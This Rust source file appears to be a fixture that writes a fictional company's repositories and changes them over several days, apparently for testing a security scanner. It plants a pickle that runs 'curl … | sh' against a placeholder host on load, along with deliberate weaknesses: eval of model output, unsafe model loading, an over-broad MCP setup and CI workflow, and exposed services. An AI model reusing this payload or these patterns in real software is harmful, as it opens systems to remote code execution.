//! The files of the sample estate, and how they change from day to day. The company, its people and its addresses are made
//! up; what looks like an attack calls nothing that exists.

use std::fs;
use std::path::Path;

/// What happens on a day.
pub(super) struct Change {
    files: &'static [(&'static str, Content)],
}

enum Content {
    Text(&'static str),
    Bytes(&'static [u8]),
    Gone,
}

use Content::{Bytes, Gone, Text};

impl Change {
    /// Brings the files of the day about.
    pub(super) fn write(&self, estate: &Path) -> std::io::Result<()> {
        for (name, content) in self.files {
            let path = estate.join(name);
            if let Some(parent) = path.parent() {
                fs::create_dir_all(parent)?;
            }
            match content {
                Text(text) => fs::write(path, text)?,
                Bytes(bytes) => fs::write(path, bytes)?,
                Gone => fs::remove_file(path)?,
            }
        }
        Ok(())
    }

    /// Whether something happens in this repository.
    pub(super) fn touches(&self, repository: &str) -> bool {
        self.files
            .iter()
            .any(|(name, _)| name.split('/').next() == Some(repository))
    }
}

/// Days before now, and what happened then.
pub(super) const DAYS: &[(i64, Change)] = &[
    (
        14,
        Change {
            files: &[
                ("support-desk/agents/support.py", Text(SUPPORT)),
                ("support-desk/agents/prompts/triage.md", Text(TRIAGE)),
                (
                    "support-desk/requirements.txt",
                    Text("openai-agents==0.6.1\nopenai==2.8.0\nlangfuse>=3\n"),
                ),
                ("support-desk/.mcp.json", Text(MCP)),
                ("support-desk/AGENTS.md", Text(INSTRUCTIONS)),
                ("support-desk/.github/workflows/review.yml", Text(WORKFLOW)),
                ("churn-model/train.py", Text(TRAIN)),
                (
                    "churn-model/requirements.txt",
                    Text("torch==2.9.0\ntransformers>=4.40\nscikit-learn==1.7.2\n"),
                ),
                ("churn-model/models/churn-v6.pkl", Bytes(HOSTILE)),
                ("churn-model/models/README.md", Text(CARD)),
                ("churn-model/data/customers.csv", Text(CUSTOMERS)),
                ("docs-search/docker-compose.yml", Text(COMPOSE)),
                ("docs-search/search.py", Text(SEARCH)),
                (
                    "docs-search/requirements.txt",
                    Text("qdrant-client==1.16.0\nsentence-transformers==5.1.2\n"),
                ),
            ],
        },
    ),
    (
        11,
        Change {
            files: &[("support-desk/.mcp.json", Text(MCP_WIDER))],
        },
    ),
    (
        9,
        Change {
            files: &[
                ("churn-model/models/churn-v6.pkl", Gone),
                ("churn-model/train.py", Text(TRAIN_SAFE)),
            ],
        },
    ),
    (
        6,
        Change {
            files: &[("docs-search/docker-compose.yml", Text(COMPOSE_OPEN))],
        },
    ),
    (
        4,
        Change {
            files: &[
                ("support-desk/agents/support.py", Text(SUPPORT_WIDER)),
                (
                    "support-desk/agents/prompts/triage.md",
                    Text(TRIAGE_CHANGED),
                ),
            ],
        },
    ),
    (
        2,
        Change {
            files: &[
                (
                    "support-desk/requirements.txt",
                    Text("openai-agents==0.6.1\nopenai==2.8.0\nlangfuse==3.10.0\n"),
                ),
                ("docs-search/docker-compose.yml", Text(COMPOSE)),
            ],
        },
    ),
    (
        1,
        Change {
            files: &[("churn-model/models/churn-v7.pkl", Bytes(HOSTILE))],
        },
    ),
];

const SUPPORT: &str = r#""""Answers the tickets of customers."""
from pathlib import Path

from agents import Agent, Runner, function_tool
from openai import OpenAI

MODEL = "gpt-4.1-2025-04-14"
client = OpenAI()
TRIAGE = Path(__file__).parent / "prompts" / "triage.md"


@function_tool
def look_up_order(order: str) -> str:
    """Reads an order of the customer who writes."""
    return orders.get(order)


@function_tool
def search_help(question: str) -> str:
    """Searches the public help pages."""
    return help_pages.search(question)


support_agent = Agent(
    name="support",
    model=MODEL,
    instructions=TRIAGE.read_text(),
    tools=[look_up_order, search_help],
)


def answer(ticket: str) -> str:
    return Runner.run_sync(support_agent, ticket, max_turns=8).final_output
"#;

const SUPPORT_WIDER: &str = r#""""Answers the tickets of customers."""
from pathlib import Path

from agents import Agent, Runner, function_tool
from openai import OpenAI

MODEL = "gpt-4.1"
client = OpenAI()
TRIAGE = Path(__file__).parent / "prompts" / "triage.md"


@function_tool
def look_up_order(order: str) -> str:
    """Reads an order of the customer who writes."""
    return orders.get(order)


@function_tool
def search_help(question: str) -> str:
    """Searches the public help pages."""
    return help_pages.search(question)


@function_tool
def refund(order: str, amount: float) -> str:
    """Pays money back to the customer."""
    return payments.refund(order, amount)


@function_tool
def run_report(code: str) -> str:
    """Runs a report that the model wrote."""
    completion = client.chat.completions.create(model=MODEL, messages=[{"role": "user", "content": code}])
    return str(eval(completion.choices[0].message.content))


support_agent = Agent(
    name="support",
    model=MODEL,
    instructions=TRIAGE.read_text(),
    tools=[look_up_order, search_help, refund, run_report],
)


def answer(ticket: str) -> str:
    return Runner.run_sync(support_agent, ticket, max_turns=8).final_output
"#;

const TRIAGE: &str = "You help customers of Northwind Bikes. Answer from orders and help pages only. \
Never promise a refund; hand the ticket over to a person instead.\n";

const TRIAGE_CHANGED: &str = "You help customers of Northwind Bikes. Answer from orders and help pages. \
Refund up to 50 EUR yourself when the customer asks for it.\n";

const INSTRUCTIONS: &str = "# For agents that work on this repository\n\nRun `make test` before you say that you are done. \
Never touch `payments/`.\n";

const MCP: &str = r#"{
  "mcpServers": {
    "tickets": {"command": "npx", "args": ["-y", "@northwind/tickets-mcp@1.4.2"]}
  }
}
"#;

const MCP_WIDER: &str = r#"{
  "mcpServers": {
    "tickets": {"command": "npx", "args": ["-y", "@northwind/tickets-mcp"]},
    "files": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/"]},
    "wiki": {"url": "http://wiki.northwind.example/mcp"}
  }
}
"#;

const WORKFLOW: &str = r#"name: review
on:
  issue_comment:
    types: [created]
permissions:
  contents: write
jobs:
  review:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v5
      - uses: anthropics/claude-code-action@v1
        with:
          anthropic_api_key: ${{ secrets.ANTHROPIC_API_KEY }}
          claude_args: --allowedTools Bash
"#;

const TRAIN: &str = r#""""Trains the model that says which customers will leave."""
import pandas as pd
import torch
from transformers import AutoModel

encoder = AutoModel.from_pretrained("northwind/customer-encoder", trust_remote_code=True)
previous = torch.load("models/churn-v6.pkl", weights_only=False)
rows = pd.read_csv("data/customers.csv")
"#;

const TRAIN_SAFE: &str = r#""""Trains the model that says which customers will leave."""
import pandas as pd
import torch
from safetensors.torch import load_file
from transformers import AutoModel

encoder = AutoModel.from_pretrained(
    "northwind/customer-encoder", revision="5f2c8a1d9be04c7e8a6f3b2d1c0e9f8a7b6c5d4e"
)
previous = load_file("models/churn-v6.safetensors")
rows = pd.read_csv("data/customers.csv")
"#;

const CARD: &str = "---\nlicense: apache-2.0\nbase_model: northwind/customer-encoder\ndatasets:\n  - northwind/customers\npipeline_tag: tabular-classification\n---\n\
# Churn\n\nSays which customers are likely to leave within 90 days.\n";

const CUSTOMERS: &str = "id,email,city,orders,left\n1,ana@mail.example,Porto,4,0\n2,ben@mail.example,Lyon,1,1\n3,eva@mail.example,Graz,9,0\n";

/// A pickle that runs a command when it is loaded; the address is one that exists nowhere.
const HOSTILE: &[u8] = b"cposix\nsystem\n(S'curl -s https://models.invalid/u | sh'\ntR.";

const COMPOSE: &str = r#"services:
  vectors:
    image: qdrant/qdrant:v1.16.0
    environment:
      QDRANT__SERVICE__API_KEY: ${QDRANT_API_KEY}
    ports: ["127.0.0.1:6333:6333"]
  answers:
    image: vllm/vllm-openai:v0.11.2
    command: --model Qwen/Qwen3-8B --api-key ${VLLM_API_KEY}
    ports: ["127.0.0.1:8000:8000"]
"#;

const COMPOSE_OPEN: &str = r#"services:
  vectors:
    image: qdrant/qdrant:latest
    ports: ["6333:6333"]
  answers:
    image: vllm/vllm-openai:latest
    command: --model Qwen/Qwen3-8B --trust-remote-code
    ports: ["8000:8000"]
"#;

const SEARCH: &str = r#""""Searches the help pages by meaning."""
import os

from qdrant_client import QdrantClient
from sentence_transformers import SentenceTransformer

encoder = SentenceTransformer("BAAI/bge-small-en-v1.5")
store = QdrantClient(url=os.environ["QDRANT_URL"], api_key=os.environ["QDRANT_API_KEY"])


def search(question: str):
    return store.query_points("help-pages", query=encoder.encode(question), limit=5)
"#;
